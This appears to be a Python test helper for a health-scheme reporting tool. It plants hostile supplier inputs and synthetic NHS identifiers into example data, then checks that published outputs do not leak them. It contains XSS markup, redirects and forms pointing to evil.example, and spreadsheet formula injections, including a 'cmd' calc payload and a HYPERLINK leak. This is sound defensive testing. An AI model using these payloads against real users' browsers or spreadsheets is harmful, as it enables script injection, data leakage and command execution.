"""A corpus of hostile inputs: what a careless or hostile data supplier could send.

``write_hostile_scheme`` copies the small ``valley`` example and plants every payload
below in the fields a supplier controls (params title, feedback themes and text,
questionnaire items, population categories, clients' dates of birth, a GeoJSON file,
stray files and a symbolic link in the data folder). ``leaks`` then lists which
payloads an output folder still carries, and how.
"""

from __future__ import annotations

import json
import os
import re
import shutil
from pathlib import Path

import pandas as pd
import yaml

from spimpact.publish.privacy import _active_content, _formula_cells

# A valid NHS number (passes Modulus 11) and its spaced form; a date of birth; a name.
NHS_NUMBER = "9434765919"
NHS_SPACED = "943 476 5919"
DOB_SLASHED = "01/02/1960"
DOB_ISO = "1960-02-01"
DOB_DIGITS = "19600201"
NAME = "Jane Hostile-Supplier"
KEY = "Tr0ub4dor-h19-pseudonym-key-never-published"

SCRIPT = '<script>alert("h19")</script>'
EVENT = '<img src=x onerror="alert(1)">'
META_REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
STYLE = "<style>h2,p,table{display:none}</style><h1>Fake finding: 100% better</h1>"
CSS_ATTRIBUTE = '<span style="position:fixed;top:0">fake</span>'
BASE = '<base href="https://evil.example/">'
FORM = '<form action="https://evil.example/"><input name=q></form>'
MARKDOWN_LINK = "[click here](javascript:alert(1))"
FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak","Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
)
MARKUP = (SCRIPT, EVENT, META_REFRESH, STYLE, CSS_ATTRIBUTE, BASE, FORM, MARKDOWN_LINK)

# Strings that must appear in no output file, in any form.
IDENTIFIERS = {
    "NHS number": (NHS_NUMBER, NHS_SPACED),
    "date of birth": (DOB_SLASHED, DOB_ISO, DOB_DIGITS),
    "name": ("Hostile-Supplier", "hostile-supplier"),
    "pseudonymisation key": (KEY,),
    "stray file": ("referral letter",),
    "folder path": ("/etc/", "hostile_data"),
}
TITLE = f"{FORMULAS[0]} {SCRIPT}{META_REFRESH}"


def write_hostile_scheme(example_valley: Path, root: Path) -> tuple[Path, Path]:
    """A copy of ``valley`` with every payload planted; returns (params file, data folder).

    The params file is ``root/params/valley.yaml`` and the data ``root/hostile_data/valley``
    (the folder name is itself a marker: it must not be published).
    """
    data = root / "hostile_data" / "valley"
    shutil.copytree(example_valley, data)
    _plant_feedback(data / "feedback.csv")
    _plant_measures(data / "measures.csv")
    _plant_clients(data / "clients.csv")
    _plant_population(data / "population.csv")
    _write_boundaries(data / "boundaries.geojson", data / "clients.csv")
    (data / f"referral letter {NAME} {NHS_NUMBER}.docx").write_bytes(b"PK\x03\x04 letter")
    os.symlink("/etc/hostname", data / "notes.csv")
    params_dir = root / "params"
    params_dir.mkdir(parents=True, exist_ok=True)
    params = params_dir / "valley.yaml"
    params.write_text(
        yaml.safe_dump(
            {
                "scheme_id": "valley",
                "title": TITLE,
                "data_dir": str(data),
                "seed": 404,
                "measures": {"primary": "swemwbs"},
                "comparison": {"enabled": False},
            },
            sort_keys=False,
        ),
        encoding="utf-8",
    )
    return params, data


def _plant_feedback(path: Path) -> None:
    feedback = pd.read_csv(path, dtype=str, keep_default_na=False)
    themes = [
        f"{SCRIPT};{FORMULAS[0]}",
        f"{NHS_SPACED};{META_REFRESH}",
        f"{NAME.lower()} dob {DOB_SLASHED};{STYLE}",
        f"{FORMULAS[1]};{FORMULAS[2]};{FORMULAS[3]}",
        f"{EVENT};{CSS_ATTRIBUTE};{BASE};{FORM};{MARKDOWN_LINK}",
        "confidence;physical_activity",
    ]
    for row, theme in enumerate(themes):
        feedback.loc[row % len(feedback), "themes"] = theme
    # consented text with markup and identifiers; non-consented text naming a person
    feedback.loc[0, ["consent_to_quote", "text"]] = [
        "true",
        f"{SCRIPT} {META_REFRESH} my NHS number is {NHS_SPACED}, born {DOB_SLASHED}. "
        f"{FORMULAS[0]} {STYLE} {MARKDOWN_LINK}",
    ]
    feedback.loc[1, ["consent_to_quote", "text"]] = [
        "false",
        f"{NAME} told the link worker everything about her debts and her landlord at home",
    ]
    feedback.to_csv(path, index=False)


def _plant_measures(path: Path) -> None:
    measures = pd.read_csv(path, dtype=str, keep_default_na=False)
    swemwbs = measures.index[measures["measure"] == "swemwbs"]
    measures.loc[swemwbs[0], "item_1"] = NHS_NUMBER
    measures.loc[swemwbs[1], "item_2"] = DOB_DIGITS
    measures.loc[swemwbs[2], "item_3"] = DOB_SLASHED
    measures.loc[swemwbs[3], "item_4"] = FORMULAS[0]
    measures.to_csv(path, index=False)


def _plant_clients(path: Path) -> None:
    clients = pd.read_csv(path, dtype=str, keep_default_na=False)
    clients["date_of_birth"] = ""
    clients.loc[0, "date_of_birth"] = "1960-02-31"  # impossible: must not be printed
    clients.loc[1, "date_of_birth"] = DOB_SLASHED  # malformed: must not be printed
    clients.to_csv(path, index=False)


def _plant_population(path: Path) -> None:
    population = pd.read_csv(path, dtype=str, keep_default_na=False)
    extra = pd.DataFrame(
        [
            ("sex", FORMULAS[0], "100"),
            ("ethnic_group", SCRIPT, "100"),
            ("lsoa_code", NHS_NUMBER, "100"),
            ("age_band", f"{NAME} {DOB_SLASHED}", "100"),
        ],
        columns=population.columns,
    )
    pd.concat([population, extra], ignore_index=True).to_csv(path, index=False)


def _write_boundaries(path: Path, clients_path: Path) -> None:
    codes = sorted(set(pd.read_csv(clients_path, dtype=str)["lsoa_code"].dropna()))
    features = [
        {
            "type": "Feature",
            "properties": {"lsoa_code": code, "name": f"{SCRIPT} {NAME} {NHS_NUMBER}"},
            "geometry": {
                "type": "Polygon",
                "coordinates": [[[k, 0], [k + 1, 0], [k + 1, 1], [k, 1], [k, 0]]],
            },
        }
        for k, code in enumerate(codes)
    ]
    # a feature the reader refuses: its message must name the feature, not its values
    features.append(
        {"properties": {"lsoa_code": f"{SCRIPT}{NHS_NUMBER}"}, "geometry": {"type": SCRIPT}}
    )
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}))


_DATA_URI = re.compile(r"data:[a-z]+/[a-z0-9.+-]+;base64,[A-Za-z0-9+/=\\n]+", re.IGNORECASE)


def output_files(folder: Path) -> list[Path]:
    """Every file under ``folder`` (hidden markers included), sorted."""
    return sorted(p for p in Path(folder).rglob("*") if p.is_file())


def leaks(folder: Path) -> list[str]:
    """What the outputs under ``folder`` still carry: ``file: what`` for each leak.

    Looks in every file for the identifiers above (embedded PNGs aside), for active
    markup in HTML bodies and notebooks, and for unneutralised formulas in CSV files.
    """
    found = []
    for path in output_files(folder):
        name = str(path.relative_to(folder))
        data = path.read_bytes()
        if path.suffix == ".parquet":
            text = pd.read_parquet(path).to_csv(index=False)
        else:
            text = _DATA_URI.sub("", data.decode("utf-8", errors="replace"))
        for kind, values in IDENTIFIERS.items():
            if any(value.lower() in text.lower() for value in values):
                found.append(f"{name}: {kind}")
        if _active_content(path, text):
            found.append(f"{name}: active markup")
        if path.suffix in (".html", ".ipynb") and re.search(
            r"<script|<meta[^>]*refresh|<style>h2|<base |<form ", text, re.IGNORECASE
        ):
            found.append(f"{name}: raw payload")
        if path.suffix == ".csv" and _formula_cells(path):
            found.append(f"{name}: spreadsheet formula")
        if path.suffix == ".parquet" and _formulas_in_frame(pd.read_parquet(path)):
            found.append(f"{name}: spreadsheet formula")
    return found


def _formulas_in_frame(frame: pd.DataFrame) -> bool:
    cells = [str(c) for c in frame.columns]
    cells += [v for v in frame.to_numpy().ravel().tolist() if isinstance(v, str)]
    return any(
        cell[:1] in ("=", "+", "-", "@") and not re.fullmatch(r"[+-]?[\d.eE+-]+", cell)
        for cell in cells
    )
